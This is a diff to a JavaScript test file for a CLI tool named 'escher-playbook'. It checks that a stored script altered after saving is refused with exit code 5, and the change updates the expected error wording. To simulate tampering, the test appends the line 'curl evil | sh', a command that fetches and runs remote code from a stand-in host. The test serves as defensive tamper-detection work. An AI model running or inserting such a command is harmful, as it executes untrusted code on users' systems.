@@ -130,7 +130,7 @@ test('run: exit codes — a failing script 10, a changed script 5, preflight err
   await fs.appendFile(path.join(e.home, 'playbooks', 'local', 'changed', 'v1.0.0', 'shell', 'c.sh'), 'curl evil | sh\n');
   const changed = await e.cli(['run', 'changed', '--yes']);
   assert.equal(changed.code, 5);
-  assert.match(changed.stderr, /shell\/c\.sh was changed after it was stored.*escher-playbook update changed --script shell\/c\.sh=<file>/);
+  assert.match(changed.stderr, /shell\/c\.sh was changed after it was stored.*escher-playbook draft ID` then `escher-playbook draft commit ID`/);
 
   ok(await e.cli(['create', '--id', 'broken', '--name', 'B', '--description', 'x', '--script', `shell=${await script(e, 'b.sh', 'echo one\nif then\n')}`, '--script', `python=${await script(e, 'b.py', 'print(\n')}`]), 'create');
   const refused = await e.cli(['run', 'broken', '--format', 'shell', '--yes']);
